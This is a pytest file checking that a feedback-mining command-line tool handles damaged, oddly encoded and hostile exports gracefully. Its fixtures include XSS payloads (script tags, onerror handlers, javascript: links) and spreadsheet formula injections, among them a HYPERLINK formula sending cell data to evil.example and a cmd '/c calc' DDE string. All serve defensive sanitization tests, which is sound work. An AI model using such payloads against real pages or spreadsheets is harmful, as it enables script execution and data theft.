"""Whatever comes in, a person gets a digest or a sentence that helps; never a traceback."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from selectolax.lexbor import LexborHTMLParser
from typer.testing import Result

from feedbackminer.project.store import Store
from tests.support.command import Rows, invoke, write_jsonl

THINGS = ("sync", "calendar", "search", "editor", "export")
TROUBLES = (
    "is slow",
    "lost an entry",
    "works really well",
    "needs another button",
    "crashes on start",
)
FRENCH = (
    "La synchronisation de mes notes ne marche plus depuis la mise à jour.",
    "Je voudrais exporter mes notes en PDF, est-ce possible ?",
    "Le calendrier est vraiment très joli, merci beaucoup à toute l'équipe.",
    "Comment puis-je partager un carnet avec ma sœur ?",
    "L'application est trop lente sur mon vieux téléphone.",
)


@dataclass(frozen=True)
class Ended:
    """How a run ended, and where it wrote to."""

    result: Result
    out: Path
    project: Path

    @property
    def told(self) -> str:
        return " ".join(self.result.stderr.split())

    @property
    def digest(self) -> dict[str, Any]:
        assert self.result.exit_code == 0, self.result.stderr
        content: dict[str, Any] = json.loads((self.out / "digest.json").read_text("utf-8"))
        return content

    def posts(self) -> pl.DataFrame:
        return Store(self.project / "tables").read("posts")

    def dropped(self) -> dict[str, str]:
        """Return ref -> reason."""
        frame = Store(self.project / "tables").read("dropped")
        return dict(frame.select("ref", "reason").iter_rows())


Mine = Callable[..., Ended]


@pytest.fixture
def mine(tmp_path: Path) -> Mine:
    return lambda content, **options: _mine(tmp_path, content, **options)


def _mine(folder: Path, content: bytes | Rows, name: str = "talk.jsonl", *options: object) -> Ended:
    export = folder / name
    if isinstance(content, bytes):
        export.write_bytes(content)
    else:
        write_jsonl(export, content)
    return _run(folder, export, *options)


def _run(folder: Path, export: Path, *options: object) -> Ended:
    out, project = folder / "digest", folder / "project"
    result = invoke("run", export, "--out", out, "--project", project, *options)
    assert "Traceback" not in result.stderr
    assert result.exit_code in (0, 1, 2, 3), result.stderr
    return Ended(result, out, project)


def post(n: int, body: str, **fields: object) -> dict[str, Any]:
    when = f"2026-01-{n % 28 + 1:02d}T10:00:00Z"
    return {"id": f"p{n}", "author": f"user{n % 9}", "created_at": when, "body": body} | fields


def ordinary(n: int) -> dict[str, Any]:
    return post(n, f"The {THINGS[n % 5]} of my notes {TROUBLES[n // 5 % 5]} on device number {n}.")


def lines(rows: Rows) -> str:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


class TestFilesThatAreNoPosts:
    """Exit code 2, and what to do."""

    @pytest.mark.parametrize(
        ("content", "told"),
        [
            (b"", "the file is empty; want one post per row"),
            (b"\n \n\n", "the file is empty; want one post per row"),
            (b"\x00\x00\x00", "the file is empty; want one post per row"),
            (
                b'{"id": 1, "body": "caf\xe9 crashes"}\n',
                "bytes that are not text; try --encoding cp1252",
            ),
            (b'{"id": 1, "body": "cut sho', "the file is damaged or cut short"),
            (b'{"id": 1, "when": "2026-01-01"}\n', "name it with --map body=COLUMN"),
            (b'{"id": 1, "body": ""}\n', "name them with --map body=COLUMN"),
            (b"42\n43\n", "--map body=COLUMN"),
            (b"[1, 2", "not valid JSON"),
            (
                b"<html><body>hello</body></html>",
                "this is a web page; want an export, as JSON or CSV",
            ),
            (b"PAR1 but no Parquet at all PAR1", "damaged Parquet file"),
            (b"\x1f\x8b\x08 cut short", "the archive is damaged or cut short"),
            (bytes(range(256)) * 20, "talk.jsonl"),
        ],
    )
    def test_says_what_is_wrong_and_what_to_do(self, content: bytes, told: str, mine: Mine) -> None:
        ended = mine(content)
        assert ended.result.exit_code == 2
        assert told in ended.told
        assert "talk.jsonl" in ended.told
        assert not ended.out.exists()

    def test_a_directory(self, tmp_path: Path) -> None:
        (tmp_path / "folder").mkdir()
        ended = _run(tmp_path, tmp_path / "folder")
        assert ended.result.exit_code == 2
        assert "is a directory; name the files in it" in ended.told

    def test_a_file_that_may_not_be_read(self) -> None:
        with tempfile.TemporaryDirectory() as folder, pytest.MonkeyPatch.context() as patch:
            Path(folder).chmod(0o777)
            patch.setattr("tempfile.tempdir", folder)
            export = write_jsonl(Path(folder) / "talk.jsonl", [ordinary(1)])
            export.chmod(0)
            invoke("run", "gone", "--out", Path(folder) / "d")  # imports, while we may read them
            with _AsNobody():
                result = invoke("run", export, "--out", Path(folder) / "d")
            assert result.exit_code == 2
            assert "cannot be read: Permission denied" in " ".join(result.stderr.split())


class _AsNobody:
    """Root may read everything, so step down to a user who may not."""

    def __enter__(self) -> None:
        self.was_root = os.geteuid() == 0
        if self.was_root:
            os.seteuid(65534)

    def __exit__(self, *_: object) -> None:
        if self.was_root:
            os.seteuid(0)


MESSY = [
    *[ordinary(n) for n in range(12)],
    post(20, "The null\x00byte in my notes breaks the search.", title="Null\x00byte"),
    post(21, "The search of my notes is slow. " * 32_000),  # 1 MB
    post(22, "a" * 1_000_000),
    post(3, "This is another post with the id of an earlier one."),
    post(23, "The editor on the moon base is slow.", created_at="2026-01-09T08:00:00"),
    post(24, "The editor of the future is slow.", created_at="2999-01-09T08:00:00Z"),
    post(25, "The editor of the Romans was slow.", created_at="0001-01-01T00:00:00Z"),
    post(26, "The editor of the machines is slow.", created_at=1767945600000),
    post(27, "The editor of yesterday is slow.", created_at="yesterday"),
    post(30, "I answer the one who answers me.", thread_id="cycle", reply_to="p31"),
    post(31, "And I answer you about the sync.", thread_id="cycle", reply_to="p30"),
    post(32, "I answer myself about the sync.", thread_id="cycle", reply_to="p32"),
    post(33, "I answer a post that is gone.", thread_id="cycle", reply_to="p999"),
    post(34, "Nobody wrote this about the calendar.", author=None),
    post(
        40,
        "The <script>document.title='owned'</script> search <img src=x onerror=alert(1)> is slow.",
        title="<script>alert('title')</script> Search & <b>rescue</b>",
        author="<script>alert('author')</script>",
        url="javascript:alert(1)",
    ),
    post(
        41,
        "The editor shows `</textarea><script>alert(2)</script>` and [click](javascript:alert(3)).",
    ),
    post(
        42,
        '=HYPERLINK("http://evil.example/?"&A1,"The export") is slow, cmd|\'/c calc\'!A1',
    ),
    post(43, "+1 The export of my notes is slow. @SUM(A1:A9) | table | pipes | break | markdown |"),
]


@pytest.fixture(scope="class")
def messy(tmp_path_factory: pytest.TempPathFactory) -> Ended:
    folder = tmp_path_factory.mktemp("messy")
    content = lines(MESSY).encode()
    content += b'{"id": "p50", "body": "cut sho\n' + b'["no", "object"]\n'
    content += b'{"id": "p51", "body": "caf\xe9 is broken"}\n'
    return _mine(folder, content)


@pytest.mark.slow
class TestMessyExport:
    """One export with every kind of bad row: each is set aside, the rest is mined."""

    def test_the_digest_is_written(self, messy: Ended) -> None:
        assert messy.result.exit_code == 0
        assert messy.digest["front"]

    def test_every_row_is_accounted_for(self, messy: Ended) -> None:
        for stage in messy.digest["account"]:
            assert stage["in"] == stage["out"] + sum(stage["dropped"].values())
        assert messy.digest["account"][0]["in"] == len(MESSY) + 3

    @pytest.mark.parametrize(
        ("row", "reason"),
        [
            (16, "duplicate_id"),
            (31, "malformed_json"),
            (32, "not_an_object"),
            (33, "invalid_encoding"),
        ],
    )
    def test_a_bad_row_is_named_with_its_line_and_reason(
        self, row: int, reason: str, messy: Ended
    ) -> None:
        assert messy.dropped()[f"talk.jsonl:{row}"] == reason

    def test_a_date_that_cannot_be_costs_the_date_and_not_the_post(self, messy: Ended) -> None:
        undated = messy.posts().filter(pl.col("created_at").is_null())["post_id"].to_list()
        assert {"talk:p24", "talk:p25", "talk:p27"} <= set(undated)
        assert "have no date that can be read, first at talk.jsonl:18" in messy.told

    def test_the_first_of_two_posts_with_one_id_is_kept(self, messy: Ended) -> None:
        kept = messy.posts().filter(pl.col("post_id") == "talk:p3")
        assert kept["body"].to_list() == [ordinary(3)["body"]]

    def test_null_bytes_are_taken_out(self, messy: Ended) -> None:
        body = messy.posts().filter(pl.col("post_id") == "talk:p20")["body"].item()
        assert body == "The nullbyte in my notes breaks the search."

    def test_times_without_zone_are_utc_and_epochs_are_read(self, messy: Ended) -> None:
        times = dict(messy.posts().select("post_id", "created_at").iter_rows())
        assert times["talk:p23"] == datetime(2026, 1, 9, 8, tzinfo=UTC)
        assert times["talk:p26"] == datetime(2026, 1, 9, 8, tzinfo=UTC)

    def test_a_very_long_post_is_read_in_part_and_that_is_told(self, messy: Ended) -> None:
        told = "longer than 20,000 characters, of which only the beginning was analysed: 1"
        assert told in messy.told

    def test_a_reply_to_itself_has_no_parent(self, messy: Ended) -> None:
        parents = dict(messy.posts().select("post_id", "parent_id").iter_rows())
        assert parents["talk:p32"] is None
        assert parents["talk:p30"] == "talk:p31"

    def test_a_post_that_nobody_wrote_is_no_voice(self, messy: Ended) -> None:
        author = messy.posts().filter(pl.col("post_id") == "talk:p34")["author_id"].item()
        assert author is None

    def test_no_text_of_the_community_becomes_markup(self, messy: Ended) -> None:
        pages = list(messy.out.rglob("*.html"))
        assert len(pages) > 10
        for page in pages:
            tree = LexborHTMLParser(page.read_text("utf-8"))
            if page.name == "search.html":  # the one page with scripts, which are files of its own
                for script in tree.css("script"):
                    assert re.fullmatch(r"assets/[a-z-]+\.js", script.attributes["src"] or "")
                    assert not script.text()
                    script.decompose()
            for forbidden in ("script", "img", "iframe", "textarea", "b", "object", "embed"):
                assert not tree.css(forbidden), f"{page.name}: <{forbidden}>"
            for node in tree.css("*"):
                assert not [name for name in node.attributes if name.startswith("on")], page.name
            for link in tree.css("a"):
                assert not (link.attributes.get("href") or "").startswith(("javascript:", "data:"))

    def test_the_markdown_holds_no_tags(self, messy: Ended) -> None:
        text = (messy.out / "digest.md").read_text("utf-8")
        assert "<script" not in text
        assert "<img" not in text
        assert "](javascript:" not in text

    def test_the_name_of_an_author_is_nowhere(self, messy: Ended) -> None:
        for file in messy.out.rglob("*"):
            if file.is_file():
                assert "alert('author')" not in file.read_text("utf-8"), file.name


@pytest.mark.slow
class TestOddCommunities:
    """Exit code 0, and a digest that is honest about what it has."""

    def test_one_post(self, mine: Mine) -> None:
        digest = mine([ordinary(1)]).digest
        assert [topic["n_posts"] for topic in digest["topics"]] == [1]

    def test_one_word(self, mine: Mine) -> None:
        assert mine([post(1, "hello there my friend")]).digest["totals"]["posts"] == 1

    def test_ten_identical_posts_are_one_topic_and_quoted_once(self, mine: Mine) -> None:
        digest = mine(
            [post(n, "The sync of my notes is slow on my phone.") for n in range(10)]
        ).digest
        (topic,) = digest["topics"]
        assert (topic["n_posts"], topic["n_voices"]) == (9, 9), "one member sent it twice"
        assert digest["totals"]["posts"] == 10
        (quote,) = [q for q in digest["quotes"] if q["stands_for"] == topic["topic_id"]]
        assert quote["n_voices"] == 9

    def test_nothing_but_emoji(self, mine: Mine) -> None:
        digest = mine([post(n, "😀🎉👍" * 3) for n in range(10)]).digest
        assert digest["topics"] == []
        clean = next(stage for stage in digest["account"] if stage["stage"] == "clean")
        assert clean["dropped"] == {"no_words": 10}

    def test_utf_16_with_a_byte_order_mark(self, mine: Mine) -> None:
        ended = mine(lines([ordinary(n) for n in range(6)]).encode("utf-16"))
        assert ended.digest["totals"]["posts"] == 6
        assert ended.posts()["body"][0] == ordinary(0)["body"]

    def test_csv_with_two_thousand_columns_under_a_wrong_name(self, mine: Mine) -> None:
        header = ",".join(["id", "author", "created_at", "body", *(f"c{n}" for n in range(1_996))])
        rows = [
            f'{n},user{n},2026-01-0{n + 1},"{ordinary(n)["body"]}",' + ",".join(["x"] * 1_996)
            for n in range(6)
        ]
        ended = mine("\n".join([header, *rows]).encode(), name="talk.json")
        assert ended.digest["totals"]["posts"] == 6

    def test_all_posts_in_french(self, mine: Mine) -> None:
        ended = mine([post(n, f"{FRENCH[n % 5]} Numéro {n}.") for n in range(30)])
        assert "the posts are mainly in language 'fr'" in ended.told
        assert sum(topic["n_posts"] for topic in ended.digest["topics"]) > 0

    def test_without_threads_nobody_is_said_to_be_unanswered(self, mine: Mine) -> None:
        ended = mine(
            [post(n, f"How can I export my notes to device {n}, please?") for n in range(12)]
        )
        assert "the export has no threads: nothing can be said about answers" in ended.told
        assert "unanswered" not in [claim["kind"] for claim in ended.digest["claims"]]
        assert "got no answer" not in (ended.out / "digest.md").read_text("utf-8")

    def test_all_posts_about_one_thing(self, mine: Mine) -> None:
        rows = [
            post(n, f"The sync between my phone and my laptop lost note {n} again.")
            for n in range(60)
        ]
        ended = mine(rows)
        assert [topic["n_voices"] for topic in ended.digest["topics"]] == [9]
        placed = Store(ended.project / "tables").read("assignments")
        assert len(placed.filter(rank=1)) == 60

    @pytest.mark.parametrize("count", [3, 20, 50])
    def test_a_small_community_gets_a_readable_digest(self, count: int, mine: Mine) -> None:
        ended = mine([ordinary(n) for n in range(count)])
        digest = ended.digest
        assert digest["topics"]
        assert digest["front"]
        assert sum(topic["n_posts"] for topic in digest["topics"]) >= count / 2
        page = LexborHTMLParser((ended.out / "index.html").read_text("utf-8"))
        assert page.css("h1")
        assert digest["topics"][0]["label"] in page.text()


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A disk of its own with 8 MB."""
    folder = tmp_path / "disk"
    folder.mkdir()
    mount = shutil.which("mount")
    if os.geteuid() != 0 or not mount or not sys.platform.startswith("linux"):
        pytest.skip("only root can mount a small disk")
    done = subprocess.run(
        [mount, "-t", "tmpfs", "-o", "size=8m", "tmpfs", folder],
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode:
        pytest.skip(f"no small disk can be mounted here: {done.stderr.strip()}")
    yield folder
    subprocess.run(["umount", folder], check=True)


@pytest.mark.slow
class TestFullDisk:
    @pytest.mark.parametrize("free_kb", [12, 60, 120])
    def test_a_full_disk_ends_with_3_and_a_rerun_continues(
        self, free_kb: int, small_disk: Path, tmp_path: Path
    ) -> None:
        export = write_jsonl(tmp_path / "talk.jsonl", [ordinary(n) for n in range(40)])
        ballast = _fill(small_disk, free_kb)
        full = _run(small_disk, export)
        assert full.result.exit_code == 3
        assert "free some space" in full.told
        ballast.unlink()
        ended = _run(small_disk, export)
        assert ended.digest["totals"]["posts"] == 40

    def test_a_disk_too_full_for_the_digest_keeps_the_old_one(
        self, small_disk: Path, tmp_path: Path
    ) -> None:
        ended = _mine(tmp_path, [ordinary(n) for n in range(20)])
        command = ("digest", "--project", ended.project, "--out", small_disk / "digest")
        assert invoke(*command).exit_code == 0
        before = (small_disk / "digest" / "digest.json").read_text("utf-8")
        _fill(small_disk, 20)
        result = invoke(*command)
        assert result.exit_code == 3
        assert "free some space" in " ".join(result.stderr.split())
        assert (small_disk / "digest" / "digest.json").read_text("utf-8") == before
        assert {path.name for path in small_disk.iterdir()} == {"digest", "ballast"}


def _fill(disk: Path, free_kb: int) -> Path:
    ballast = disk / "ballast"
    free = shutil.disk_usage(disk).free
    ballast.write_bytes(b"\0" * max(0, free - free_kb * 1024))
    return ballast
